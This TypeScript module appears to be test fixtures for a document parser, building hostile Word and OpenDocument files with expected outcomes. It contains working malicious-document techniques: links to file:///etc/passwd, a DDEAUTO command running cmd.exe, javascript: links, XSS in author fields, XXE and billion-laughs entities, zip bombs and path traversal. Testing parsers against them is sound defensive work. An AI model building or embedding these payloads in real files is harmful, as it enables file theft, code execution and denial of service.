import { CANARY, hostile, large, words, type HostileFile } from '../hostile-file.ts';
import { zip, zipOf } from '../zip-writer.ts';
import { LAUGHS } from './xml.ts';

const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const RELATIONS = 'http://schemas.openxmlformats.org/package/2006/relationships';
const TYPE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

const p = (text: string): string => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`;
const relations = (...all: string[]): string =>
  `<Relationships xmlns="${RELATIONS}">${all.join('')}</Relationships>`;
const relation = (id: string, type: string, target: string, outside = true): string =>
  `<Relationship Id="${id}" Type="${TYPE}/${type}" Target="${target}"${outside ? ' TargetMode="External"' : ''}/>`;

/** The parts of a Word document around a body. */
const parts = (body: string, more: Readonly<Record<string, string | Uint8Array>> = {}, before = '') => ({
  '_rels/.rels': relations(relation('r', 'officeDocument', 'word/document.xml', false)),
  'word/document.xml': `${before}<w:document ${W} xmlns:r="${TYPE}"><w:body>${body}</w:body></w:document>`,
  ...more,
});

const docx = (
  name: string,
  body: string | ((sink: string) => string),
  links: (sink: string) => string[] = () => [],
  more: Readonly<Record<string, string | Uint8Array>> = {},
): HostileFile =>
  hostile(
    `word-${name}.docx`,
    (sink) =>
      zipOf(
        parts(`${p(words(`word ${name}`))}${typeof body === 'string' ? body : body(sink)}`, {
          'word/_rels/document.xml.rels': relations(...links(sink)),
          ...more,
        }),
      ),
    'opens',
  );

const withDoctype = (part: string, doctype: string): HostileFile =>
  hostile(
    `word-doctype-${part.replaceAll(/\W+/g, '-')}.docx`,
    zipOf({
      ...parts(p('x')),
      [part]: `${doctype}<x>&a9;</x>`,
    }),
    'declaresEntities',
  );

const picture = (id: string): string =>
  `<w:p><w:r><w:drawing><a:blip xmlns:a="a" r:link="${id}" r:embed="${id}"/></w:drawing></w:r></w:p>`;

/** Old Office files are containers of another kind; an encrypted new one lies in such a container. */
const container = (text: string): Uint8Array =>
  Buffer.concat([
    Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
    Buffer.alloc(600),
    Buffer.from(text, 'utf16le'),
  ]);

export const WORD: readonly HostileFile[] = [
  docx('linked-pictures', `${picture('a')}${picture('b')}${picture('c')}${picture('d')}`, (sink) => [
    relation('a', 'image', 'file:///etc/passwd'),
    relation('b', 'image', '\\\\host\\share\\x.png'),
    relation('c', 'image', `${sink}/x.png`),
    relation('d', 'image', 'file:///dev/zero'),
  ]),
  docx(
    'templates',
    '<w:altChunk r:id="b"/><w:subDoc r:id="d"/><w:object><o:OLEObject xmlns:o="o" r:id="c"/></w:object>',
    (sink) => [
      relation('a', 'attachedTemplate', `${sink}/t.dotm`),
      relation('b', 'aFChunk', `${sink}/chunk.html`),
      relation('c', 'oleObject', 'file:///etc/passwd'),
      relation('d', 'subDocument', `${sink}/sub.docx`),
    ],
  ),
  docx('chunk-inside', '<w:altChunk r:id="a"/>', () => [relation('a', 'aFChunk', 'chunk.html', false)], {
    'word/chunk.html': `<script>${CANARY}</script>`,
  }),
  docx(
    'links',
    '<w:p><w:hyperlink r:id="a"><w:r><w:t>script</w:t></w:r></w:hyperlink><w:hyperlink r:id="b"><w:r><w:t>file</w:t></w:r></w:hyperlink></w:p>',
    () => [
      relation('a', 'hyperlink', `javascript:${CANARY}`),
      relation('b', 'hyperlink', 'file:///etc/passwd'),
    ],
  ),
  docx(
    'fields',
    [
      'INCLUDEPICTURE "http://postil.example/x.png"',
      'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
      'INCLUDETEXT "/etc/passwd"',
      `HYPERLINK "javascript:${CANARY}"`,
    ]
      .map(
        (code) =>
          `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${code.replaceAll('"', '&quot;')}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
      )
      .join(''),
  ),
  docx(
    'markup-in-changes',
    `<w:p><w:ins w:author="&lt;img src=x onerror=${CANARY}&gt;"><w:r><w:t>&lt;script&gt;${CANARY}&lt;/script&gt;</w:t></w:r></w:ins><w:del><w:r><w:delText>gone</w:delText></w:r></w:del></w:p>`,
    () => [],
    {
      'word/comments.xml': `<w:comments ${W}><w:comment w:author="&quot;&gt;&lt;img src=x onerror=${CANARY}&gt;"><w:p><w:r><w:t>&lt;script&gt;</w:t></w:r></w:p></w:comment></w:comments>`,
    },
  ),
  docx(
    'circular-styles',
    '<w:p><w:pPr><w:pStyle w:val="A"/><w:numPr><w:numId w:val="1"/><w:ilvl w:val="99"/></w:numPr></w:pPr><w:r><w:t>x</w:t></w:r></w:p>',
    () => [],
    {
      'word/styles.xml': `<w:styles ${W}><w:style w:styleId="A"><w:basedOn w:val="B"/></w:style><w:style w:styleId="B"><w:basedOn w:val="A"/></w:style></w:styles>`,
      'word/numbering.xml': `<w:numbering ${W}><w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num><w:abstractNum w:abstractNumId="1"><w:numStyleLink w:val="A"/></w:abstractNum></w:numbering>`,
    },
  ),
  docx('circular-notes', '<w:p><w:r><w:footnoteReference w:id="1"/></w:r></w:p>', () => [], {
    'word/footnotes.xml': `<w:footnotes ${W}><w:footnote w:id="1"><w:p><w:r><w:t>n</w:t><w:footnoteReference w:id="1"/></w:r></w:p></w:footnote></w:footnotes>`,
  }),
  docx(
    'prototype',
    `<w:p><w:pPr><w:pStyle w:val="__proto__"/></w:pPr><w:r><w:t>x</w:t></w:r></w:p>`,
    () => [relation('__proto__', 'hyperlink', 'constructor')],
    {
      'word/styles.xml': `<w:styles ${W}><w:style w:styleId="__proto__"><w:name w:val="constructor"/></w:style></w:styles>`,
    },
  ),
  docx('many-runs', `<w:p>${'<w:r><w:t>x </w:t></w:r>'.repeat(50_000)}</w:p>`),
  hostile(
    'word-nested-tables.docx',
    () => zipOf(parts(`${'<w:tbl><w:tr><w:tc>'.repeat(20_000)}${p('x')}`)),
    'tooDeep',
  ),
  ...[
    'word/document.xml',
    'word/styles.xml',
    'word/numbering.xml',
    'word/footnotes.xml',
    'word/comments.xml',
    'docProps/core.xml',
    '_rels/.rels',
  ].map((part) => withDoctype(part, LAUGHS)),
  hostile(
    'word-external-entity.docx',
    (sink) => zipOf(parts(p('&e;'), {}, `<!DOCTYPE x [<!ENTITY e SYSTEM "${sink}/e">]>`)),
    'declaresEntities',
  ),
  hostile(
    'word-bomb.docx',
    () => zipOf(parts(`${p(words('a bomb'))}${' '.repeat(30_000_000)}`)),
    'unpacksTooLarge',
  ),
  hostile(
    'word-lying-bomb.docx',
    () =>
      zip(
        Object.entries(parts(`${p('x')}${' '.repeat(30_000_000)}`)).map(([name, content]) => ({
          name,
          content,
          size: 10,
        })),
      ),
    'unpacksTooLarge',
  ),
  hostile('word-without-document.docx', zipOf({ '_rels/.rels': relations() }), 'notOfItsKind'),
  hostile(
    'word-macros.docm',
    zipOf(parts(p(words('macros')), { 'word/vbaProject.bin': container('Auto_Open') })),
    'opens',
  ),
  hostile('word-encrypted.docx', container('EncryptedPackage'), 'needsPassword'),
  hostile('word-old.docx', container('WordDocument'), 'notOfItsKind'),
  hostile('word-cut.docx', () => zipOf(parts(p('x'))).subarray(0, 300), 'damaged'),
  hostile(
    'word-outside.docx',
    zipOf({
      ...parts(p('x')),
      '_rels/.rels': relations(relation('r', 'officeDocument', '../../../etc/passwd', false)),
    }),
    'notOfItsKind',
  ),
  hostile(
    'office-links.odt',
    (sink) =>
      zipOf({
        'content.xml': `<office:document-content xmlns:office="o" xmlns:text="t" xmlns:draw="d" xmlns:xlink="x"><office:scripts><script>${CANARY}</script></office:scripts><office:body><office:text><text:p>${words('open document')}<text:a xlink:href="javascript:${CANARY}">script</text:a><draw:frame><draw:image xlink:href="${sink}/x.png"/><draw:object xlink:href="file:///etc/passwd"/></draw:frame></text:p><text:section><text:section-source xlink:href="${sink}/s"/></text:section></office:text></office:body></office:document-content>`,
      }),
    'opens',
  ),
  hostile(
    'office-laughs.odt',
    zipOf({ 'content.xml': `${LAUGHS}<office:document-content>&a9;</office:document-content>` }),
    'declaresEntities',
  ),
  hostile(
    'office-spaces.odt',
    zipOf({
      'content.xml': `<office:document-content><office:body><office:text><text:p>${words('many spaces')}<text:s text:c="999999999999"/>x</text:p></office:text></office:body></office:document-content>`,
    }),
    'opens',
  ),
  hostile(
    'office-cells.odt',
    zipOf({
      'content.xml': `<office:document-content><office:body><office:text><text:p>${words('many cells')}</text:p><table:table><table:table-row table:number-rows-repeated="1000000"><table:table-cell table:number-columns-repeated="1000000"><text:p>x</text:p></table:table-cell></table:table-row></table:table></office:text></office:body></office:document-content>`,
    }),
    'opens',
  ),
  large(
    hostile(
      'word-million-runs.docx',
      () =>
        zipOf(
          parts(
            `<w:p>${Array.from({ length: 1_000_000 }, (_, n) => `<w:r><w:t>${n} </w:t></w:r>`).join('')}</w:p>`,
          ),
        ),
      'either',
    ),
  ),
];
